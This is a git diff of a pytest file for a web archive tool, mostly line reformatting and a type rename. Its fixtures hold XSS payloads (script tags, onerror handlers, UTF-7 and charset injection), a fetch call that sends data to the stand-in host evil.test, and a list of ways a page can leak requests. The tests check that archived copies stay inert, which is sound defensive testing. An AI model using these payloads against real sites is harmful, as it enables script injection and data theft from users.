@@ -13,7 +13,7 @@ import pytest
 from msgspec.structs import replace
 from playwright.sync_api import Browser
 from tests.support.browser import chromium
-from tests.support.serving import Answered, get, serve
+from tests.support.serving import HttpAnswer, get, serve
 from tests.support.towns import visit, written
 
 from toponaut.archive import ArchiveWriter
@@ -21,8 +21,10 @@ from toponaut.records import Outcome, Response, Visit
 
 EVIL = "http://evil.test"
 SCRIPT = """<html><head><title></title><script>fetch('http://evil.test/stolen')</script></head>
-<body onload="alert(1)"><p>Pizza <img src=x onerror=alert(2)> <a href="javascript:alert(3)">here</a></p>
-<form action="http://evil.test/"><input name=q></form><iframe src="http://evil.test/"></iframe></body></html>"""
+<body onload="alert(1)">
+<p>Pizza <img src=x onerror=alert(2)> <a href="javascript:alert(3)">here</a></p>
+<form action="http://evil.test/"><input name=q></form><iframe src="http://evil.test/"></iframe>
+</body></html>"""
 TITLE = "</title><script>alert(1)</script><img src=x onerror=alert(2)>\0\u202e"
 
 
@@ -39,16 +41,26 @@ class HostilePage(NamedTuple):
 HOSTILE_PAGES = (
     HostilePage("/script", SCRIPT.encode(), "text/html"),
     HostilePage("/charset", SCRIPT.encode(), 'text/html; charset="><script>alert(1)</script>'),
-    HostilePage("/utf7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- pizza", "text/html; charset=utf-7"),
+    HostilePage("/utf7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- pizza",
+        "text/html; charset=utf-7"),
     HostilePage("/utf16", f"\ufeff{SCRIPT}".encode("utf-16-le"), "text/html"),
     HostilePage("/latin", "<p>Straße in Köln, pizza".encode("latin-1"), "text/html; charset=utf-8"),
     HostilePage("/nul", b"<p>pi\0zza\0 \xff\xfe\x00\x80</p>", "text/html"),
-    HostilePage("/links", b"<link rel=preconnect href=//evil.test><IFRAME/rel=preconnect href=//evil.test> <links> &lt;link <frames>", "text/html"),
-    HostilePage("/xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', "application/xhtml+xml"),
-    HostilePage("/refresh", b"<META\nhttp-equiv=refresh content='0;url=//evil.test'><meta name=referrer content=unsafe-url>pizza", "text/html"),
+    HostilePage("/links",
+        b"<link rel=preconnect href=//evil.test><IFRAME/rel=preconnect href=//evil.test> <links> "
+        b"&lt;link <frames>", "text/html"),
+    HostilePage("/xhtml",
+        b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
+            "application/xhtml+xml"),
+    HostilePage("/refresh",
+        b"<META\nhttp-equiv=refresh content='0;url=//evil.test'><meta name=referrer "
+        b"content=unsafe-url>pizza", "text/html"),
     HostilePage("/xslt.xml", b"<?xml-stylesheet type='text/xsl' href='#x'?><x/>", "text/xml"),
-    HostilePage("/parts", b"--x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--x--", "multipart/x-mixed-replace; boundary=x"),
-    HostilePage("/svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"),
+    HostilePage("/parts",
+        b"--x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--x--",
+            "multipart/x-mixed-replace; boundary=x"),
+    HostilePage("/svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+        "image/svg+xml"),
     HostilePage("/script.js", b"alert(1)", "text/javascript"),
     HostilePage("/none", b"<script>alert(1)</script>", ""),
     HostilePage("/plain", b"<script>alert(1)</script>", "text/plain"),
@@ -72,9 +84,13 @@ def crawled(root: Path, pages: tuple[HostilePage, ...]) -> Path:
     ) as archive:
         for number, one in enumerate(pages):
             packed = f"Content-Encoding: {one.encoding}\r\n" if one.encoding else ""
-            head = f"HTTP/1.1 200 OK\r\nContent-Type: {one.content_type}\r\n{packed}Refresh: 0;url={EVIL}\r\nLink: <{EVIL}>; rel=preload\r\n\r\n"
+            head = (
+                f"HTTP/1.1 200 OK\r\nContent-Type: {one.content_type}\r\n{packed}"
+                f"Refresh: 0;url={EVIL}\r\nLink: <{EVIL}>; rel=preload\r\n\r\n"
+            )
             fetched = Response(
-                url_of(one), 200, one.body, one.content_type, started=1.8e9, response_head=head.encode(), payload=one.body
+                url_of(one), 200, one.body, one.content_type, started=1.8e9,
+                response_head=head.encode(), payload=one.body
             )  # fmt: skip
             stored = archive.write(fetched, {})
             assert stored
@@ -92,7 +108,7 @@ def base(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
         yield url
 
 
-def archived(base: str, path: str) -> Answered:
+def archived(base: str, path: str) -> HttpAnswer:
     return get(base, f"/archived?url={quote(EVIL + quote(path), safe='')}")
 
 
@@ -155,13 +171,15 @@ def test_the_content_type_of_a_copy(base: str, path: str, media: str) -> None:
         ("/utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4- pizza"),
         (
             "/refresh",
-            "<basefont\nhttp-equiv=refresh content='0;url=//evil.test'><basefont name=referrer content=unsafe-url>pizza",
+            "<basefont\nhttp-equiv=refresh content='0;url=//evil.test'><basefont name=referrer "
+            "content=unsafe-url>pizza",
         ),
         ("/latin", "<p>Straße in Köln, pizza"),
         ("/nul", "<p>pi\0zza\0 яю\0Ђ</p>"),
         (
             "/links",
-            "<basefont rel=preconnect href=//evil.test><basefont/rel=preconnect href=//evil.test> <links> &lt;link <frames>",
+            "<basefont rel=preconnect href=//evil.test><basefont/rel=preconnect href=//evil.test> "
+            "<links> &lt;link <frames>",
         ),
     ],
 )
@@ -208,15 +226,25 @@ def test_errors_contain_no_markup(base: str) -> None:
 
 # --- in a browser ---------------------------------------------------------------------------------
 
-LEAKS = """<html><head><title>still</title><meta http-equiv="refresh" content="0;url=X/refresh"><base href="X/base/">
-<link rel=preconnect href="X"><link rel="dns-prefetch" href="X"><link rel=prefetch href="X/prefetch"><link rel=preload as=image href="X/p">
-<link rel=stylesheet href="X/css"><link rel=icon href="X/icon"><link rel=modulepreload href="X/module"><link rel=manifest href="X/m">
+LEAKS = """<html><head><title>still</title><meta http-equiv="refresh" content="0;url=X/refresh">
+<base href="X/base/">
+<link rel=preconnect href="X"><link rel="dns-prefetch" href="X">
+<link rel=prefetch href="X/prefetch"><link rel=preload as=image href="X/p">
+<link rel=stylesheet href="X/css"><link rel=icon href="X/icon">
+<link rel=modulepreload href="X/module"><link rel=manifest href="X/m">
 <script type=speculationrules>{"prefetch":[{"source":"list","urls":["X/speculation"]}]}</script>
-<style>@import url(X/import); body {background: url(X/picture)} @font-face {font-family: f; src: url(X/font)} p {font-family: f}</style>
-<script>document.title = "ran"; fetch("X/fetch")</script></head><body onload="document.title = 'ran'">
-<p id=text>Pizza</p><img src="X/image" onerror="document.title = 'ran'"><iframe src="X/frame"></iframe><object data="X/object"></object>
-<embed src="X/embed"><input type=image src="X/input"><picture><source srcset="X/set"></picture><audio src="X/audio"><track src="X/track"></audio>
-<table background="X/table"></table><p style="background: url(X/style); cursor: url(X/cursor), auto">x</p><video src="X/video" poster="X/poster" autoplay></video><svg><image href="X/svg"/><use href="X/use#a"/></svg>
+<style>@import url(X/import); body {background: url(X/picture)} @font-face {font-family: f; src:
+  url(X/font)} p {font-family: f}</style>
+<script>document.title = "ran"; fetch("X/fetch")</script></head>
+<body onload="document.title = 'ran'">
+<p id=text>Pizza</p><img src="X/image" onerror="document.title = 'ran'"><iframe src="X/frame">
+</iframe><object data="X/object"></object>
+<embed src="X/embed"><input type=image src="X/input"><picture><source srcset="X/set"></picture>
+<audio src="X/audio"><track src="X/track"></audio>
+<table background="X/table"></table>
+<p style="background: url(X/style); cursor: url(X/cursor), auto">x</p>
+<video src="X/video" poster="X/poster" autoplay></video><svg><image href="X/svg"/>
+<use href="X/use#a"/></svg>
 <iframe srcdoc="<script>top.document.title = 'ran'</script>"></iframe></body></html>"""
 
 
@@ -238,7 +266,10 @@ def test_a_copy_in_a_browser_does_nothing(tmp_path: Path, browser: Browser, fram
             page = browser.new_page()
             page.goto(f"{base}/" if framed else f"{base}/archived?url={EVIL}/leaks")
             if framed:
-                show = "url => { const f = document.createElement('iframe'); f.setAttribute('sandbox', ''); f.src = url; document.body.append(f) }"
+                show = (
+                    "url => { const f = document.createElement('iframe'); "
+                    "f.setAttribute('sandbox', ''); f.src = url; document.body.append(f) }"
+                )
                 page.evaluate(show, f"/archived?url={EVIL}/leaks")
             shown = page.frame_locator("iframe[src^='/archived']") if framed else page
             assert shown.locator("#text").inner_text() == "Pizza"
